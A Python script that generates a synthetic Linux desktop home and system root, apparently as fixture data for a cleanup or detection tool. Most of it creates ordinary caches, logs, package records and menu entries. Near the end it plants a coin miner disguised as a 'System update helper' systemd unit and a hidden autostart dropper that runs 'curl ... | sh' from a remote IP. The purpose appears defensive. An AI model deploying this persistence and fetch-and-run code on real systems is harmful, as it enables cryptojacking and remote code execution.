#!/usr/bin/env python3
"""Generates a typical desktop home laid out the way this platform lays it out: two browsers' profiles
and caches, thumbnails, package and build caches, session and application logs, a Flatpak app with its
data, programs' own folders in the home (.thunderbird, .mozilla), the user's folders with some
documents, and the user's own menu entries (one whose AppImage is gone). Every file is written in full
(allocated, not sparse). With --system, also a system root beside it that installs the applications
those data belong to: Debian packages with their menu entries, file lists and versions (one package
with two entries), and icons (one application with only an SVG icon).

Usage: generate.py HOME [--scale S] [--system ROOT]   (S = 1.0 gives about 570 MB)
"""
import argparse
import os
import random

MB = 1000 * 1000


def write(path, size):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        chunk = b"q" * min(size, 1 << 20)
        left = size
        while left > 0:
            f.write(chunk[: min(left, len(chunk))])
            left -= len(chunk)


def text(path, content, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(content)
    os.chmod(path, mode)


def enable(unit_folder, name):
    """Enables the user unit `name` for the default target, as `systemctl --user enable` would."""
    wants = os.path.join(unit_folder, "default.target.wants")
    os.makedirs(wants, exist_ok=True)
    os.symlink("../" + name, os.path.join(wants, name))


def many(folder, count, total, name="f{:05d}", rng=None):
    """`count` files adding up to about `total` bytes, sizes varying around the mean."""
    rng = rng or random.Random(folder)
    mean = max(total // max(count, 1), 1)
    for i in range(count):
        write(os.path.join(folder, name.format(i)), max(1, int(mean * rng.uniform(0.2, 1.8))))


def write_text(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


def system(root):
    """A system root with Debian packages, their menu entries, file lists and versions, and icons."""
    j = lambda *parts: os.path.join(root, *parts)
    packages = []  # (name, version, [files])

    def package(name, version, entries, program, icons=()):
        files = [program]
        write(j(program.lstrip("/")), 50 * 1000)
        for entry_id, text in entries:
            path = "/usr/share/applications/%s.desktop" % entry_id
            write_text(j(path.lstrip("/")), "[Desktop Entry]\nType=Application\n" + text)
            files.append(path)
        for icon, size in icons:
            write(j(icon.lstrip("/")), size)
            files.append(icon)
        packages.append((name, version, files))

    hicolor = "/usr/share/icons/hicolor"
    package("thunderbird", "1:115.5.0-1~deb12u1",
            [("thunderbird", "Name=Thunderbird Mail\nExec=/usr/bin/thunderbird %u\nIcon=thunderbird\n")],
            "/usr/bin/thunderbird", [(hicolor + "/128x128/apps/thunderbird.png", 9000)])
    package("firefox-esr", "115.5.0esr-1~deb12u1",
            [("firefox-esr", "Name=Firefox ESR\nExec=/usr/lib/firefox-esr/firefox-esr %u\nIcon=firefox-esr\n")],
            "/usr/lib/firefox-esr/firefox-esr", [(hicolor + "/128x128/apps/firefox-esr.png", 9000)])
    package("google-chrome-stable", "120.0.6099.71-1",
            [("google-chrome", "Name=Google Chrome\nExec=/usr/bin/google-chrome-stable %U\nIcon=google-chrome\n")],
            "/usr/bin/google-chrome-stable", [(hicolor + "/256x256/apps/google-chrome.png", 20000)])
    package("bleachbit", "4.4.2-1",
            [("org.bleachbit.BleachBit", "Name=BleachBit\nExec=bleachbit\nIcon=bleachbit\n"),
             ("bleachbit-root", "Name=BleachBit (as root)\nExec=pkexec bleachbit\nIcon=bleachbit\n")],
            "/usr/bin/bleachbit", [("/usr/share/pixmaps/bleachbit.png", 4000)])
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128" viewBox="0 0 128 128">'
           '<circle cx="64" cy="64" r="60" fill="#3584e4"/></svg>')
    write_text(j(hicolor.lstrip("/"), "scalable/apps/org.gnome.baobab.svg"), svg)
    package("baobab", "43.0-1",
            [("org.gnome.baobab", "Name=Disk Usage Analyzer\nExec=baobab %U\nIcon=org.gnome.baobab\n")],
            "/usr/bin/baobab", [])
    packages[-1][2].append(hicolor + "/scalable/apps/org.gnome.baobab.svg")
    package("imagemagick-6.q16", "8:6.9.11.60+dfsg-1.6+deb12u16",
            [("display-im6.q16", "Name=ImageMagick (display Q16)\nExec=/usr/bin/display-im6.q16 %f\n")],
            "/usr/bin/display-im6.q16", [])
    info = j("var/lib/dpkg/info")
    os.makedirs(info, exist_ok=True)
    with open(j("var/lib/dpkg/status"), "w") as status:
        for name, version, files in packages:
            with open(os.path.join(info, name + ".list"), "w") as f:
                f.write("\n".join(files) + "\n")
            status.write("Package: %s\nStatus: install ok installed\nVersion: %s\n\n" % (name, version))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("home")
    parser.add_argument("--scale", type=float, default=1.0)
    parser.add_argument("--system")
    args = parser.parse_args()
    h = args.home
    s = args.scale
    sz = lambda mb: int(mb * MB * s)
    n = lambda count: max(1, int(count * s))
    j = lambda *parts: os.path.join(h, *parts)

    # Firefox: the profile (not junk) and its cache in the cache home.
    profile = "k3x9w2ab.default-release"
    for name, mb in [("places.sqlite", 10), ("cookies.sqlite", 1), ("favicons.sqlite", 5), ("prefs.js", 0.05)]:
        write(j(".mozilla/firefox", profile, name), sz(mb))
    many(j(".mozilla/firefox", profile, "storage/default/https+++example.org/idb"), n(40), sz(12))
    many(j(".cache/mozilla/firefox", profile, "cache2/entries"), n(1500), sz(90), "{:040X}")
    many(j(".cache/mozilla/firefox", profile, "startupCache"), n(3), sz(4), "startupCache.{}.little")
    # Chrome: the profile in the config home (with its own code and GPU caches), the HTTP cache in the
    # cache home.
    for name, mb in [("History", 8), ("Cookies", 1), ("Preferences", 0.1), ("Web Data", 2)]:
        write(j(".config/google-chrome/Default", name), sz(mb))
    many(j(".config/google-chrome/Default/Code Cache/js"), n(300), sz(20))
    many(j(".config/google-chrome/Default/GPUCache"), n(5), sz(3), "data_{}")
    many(j(".cache/google-chrome/Default/Cache/Cache_Data"), n(1200), sz(70), "{:016x}_0")
    many(j(".cache/google-chrome/Default/Code Cache/wasm"), n(40), sz(6))
    # Thumbnails of the desktop's file manager.
    many(j(".cache/thumbnails/normal"), n(900), sz(14), "{:032x}.png")
    many(j(".cache/thumbnails/large"), n(400), sz(18), "{:032x}.png")
    many(j(".cache/thumbnails/fail/gnome-thumbnail-factory"), n(20), sz(0.05), "{:032x}.png")
    # Other caches: pip, fontconfig, Mesa's shader cache, a tracker, an application's.
    many(j(".cache/pip/http-v2/a/b"), n(200), sz(35))
    many(j(".cache/fontconfig"), n(12), sz(2), "{:032x}-le64.cache-7")
    many(j(".cache/mesa_shader_cache/0a"), n(80), sz(12))
    many(j(".cache/tracker3/files"), n(4), sz(6), "meta.db{}")
    many(j(".cache/gnome-software/odrs"), n(3), sz(5), "ratings{}.json")
    os.makedirs(j(".cache/doc"), exist_ok=True)  # the document portal's mount point
    # Package and build caches of developer tools.
    many(j(".npm/_cacache/content-v2/sha512/ab"), n(300), sz(40))
    many(j(".cache/yarn/v6"), n(200), sz(15))
    many(j(".cache/go-build/0a"), n(250), sz(20), "{:064x}-d")
    many(j("go/pkg/mod/cache/download/example.org"), n(100), sz(15))
    many(j(".cargo/registry/cache/index.crates.io-6f17d22bba15001f"), n(120), sz(30), "crate{}.crate")
    many(j(".gradle/caches/modules-2/files-2.1"), n(60), sz(12))
    # Logs: the X session's, Xorg's, npm's, and Electron-style applications' in the config home.
    write(j(".xsession-errors"), sz(2))
    write(j(".xsession-errors.old"), sz(1))
    write(j(".local/share/xorg/Xorg.0.log"), sz(0.3))
    write(j(".local/share/xorg/Xorg.0.log.old"), sz(0.3))
    many(j(".npm/_logs"), n(10), sz(1), "2026-12-0{}T10_00_00_000Z-debug-0.log")
    many(j(".config/Code/logs/20261209T101010/window1"), n(8), sz(4), "renderer{}.log")
    write(j(".config/Code/logs/20261209T101010/main.log"), sz(1))
    many(j(".config/Slack/logs/webapp"), n(6), sz(3), "webapp-console{}.log")
    # The state home: editor history and chosen audio devices, not logs.
    write(j(".local/state/wireplumber/default-nodes"), 300)
    write(j(".local/state/nvim/shada/main.shada"), sz(0.2))
    # A Flatpak app (the user's installation) and its data, recent files.
    many(j(".local/share/flatpak/app/org.example.Player/x86_64/stable/active/files/lib"), n(60), sz(80))
    many(j(".var/app/org.example.Player/cache/media"), n(30), sz(10))
    write(j(".var/app/org.example.Player/config/player.conf"), 2000)
    write(j(".local/share/recently-used.xbel"), sz(0.1))
    # The user's folders.
    write(j("Videos/holiday.mkv"), sz(40))
    many(j("Pictures/2026"), n(20), sz(30), "IMG_{:04d}.jpg")
    many(j("Music/album"), n(10), sz(25), "{:02d}.flac")
    many(j("Documents"), n(15), sz(5), "report{}.odt")
    write(j("Downloads/installer.deb"), sz(12))
    write(j("Desktop/notes.txt"), 4000)
    # Programs' own folders directly in the home: Thunderbird's profile; Firefox's is ~/.mozilla above.
    many(j(".thunderbird/q8r2s1tv.default-esr/ImapMail/imap.example.org"), n(20), sz(6), "INBOX{}")
    write(j(".thunderbird/q8r2s1tv.default-esr/prefs.js"), sz(0.05))
    write(j(".thunderbird/profiles.ini"), 200)
    # A program's settings in the config home, one package with two menu entries (BleachBit).
    write(j(".config/bleachbit/bleachbit.ini"), 2000)
    # The user's own menu entries: one for an AppImage that was deleted since.
    write_text(j(".local/share/applications/appimagekit-gone.desktop"),
               "[Desktop Entry]\nType=Application\nName=Gone Tool\nExec=%s/Applications/Gone-1.0.AppImage\n" % h)
    if args.system:
        system(args.system)
    # What starts with the session. Ordinary: a chat app's and a sync tool's autostart entries, a user
    # unit for the sync daemon.
    text(j(".config/autostart/org.example.Chat.desktop"),
         "[Desktop Entry]\nType=Application\nName=Chat\nExec=/usr/bin/flatpak run org.example.Chat --minimized\n"
         "X-GNOME-Autostart-enabled=true\n")
    text(j(".config/autostart/nextcloud.desktop"),
         "[Desktop Entry]\nType=Application\nName=Nextcloud\nExec=/usr/bin/nextcloud --background\n")
    units = j(".config/systemd/user")
    text(os.path.join(units, "syncthing.service"),
         "[Unit]\nDescription=Syncthing\n[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\n"
         "[Install]\nWantedBy=default.target\n")
    enable(units, "syncthing.service")
    # A coin miner: a unit named like a system helper runs a script that starts the miner on a pool.
    miner = j(".local/share/.sysupd/sysupd")
    write(miner, sz(6))
    os.chmod(miner, 0o755)
    start = j(".local/share/.sysupd/start.sh")
    text(start, "#!/bin/sh\nexec %s -o stratum+tcp://pool.supportxmr.com:3333 -u 48aXYZ -p x "
                "--donate-level 1 --cpu-max-threads-hint 75 >/dev/null 2>&1\n" % miner, 0o755)
    text(os.path.join(units, "sysupd.service"),
         "[Unit]\nDescription=System update helper\n[Service]\nExecStart=/bin/sh %s\nRestart=always\n"
         "[Install]\nWantedBy=default.target\n" % start)
    enable(units, "sysupd.service")
    # A dropper: a hidden autostart entry whose script fetches code and runs it in a shell.
    fetch = j(".local/share/gnome-updater/update.sh")
    text(fetch, "#!/bin/sh\nsleep 30\ncurl -fsSL http://198.51.100.7/p.sh | sh\n", 0o755)
    text(j(".config/autostart/gnome-updater.desktop"),
         "[Desktop Entry]\nType=Application\nName=GNOME Updater\nNoDisplay=true\nExec=/bin/sh %s\n" % fetch)
    with open(j(".config/user-dirs.dirs"), "w") as f:
        for key, name in [("DESKTOP", "Desktop"), ("DOWNLOAD", "Downloads"), ("TEMPLATES", "Templates"),
                          ("PUBLICSHARE", "Public"), ("DOCUMENTS", "Documents"), ("MUSIC", "Music"),
                          ("PICTURES", "Pictures"), ("VIDEOS", "Videos")]:
            f.write('XDG_%s_DIR="$HOME/%s"\n' % (key, name))


if __name__ == "__main__":
    main()
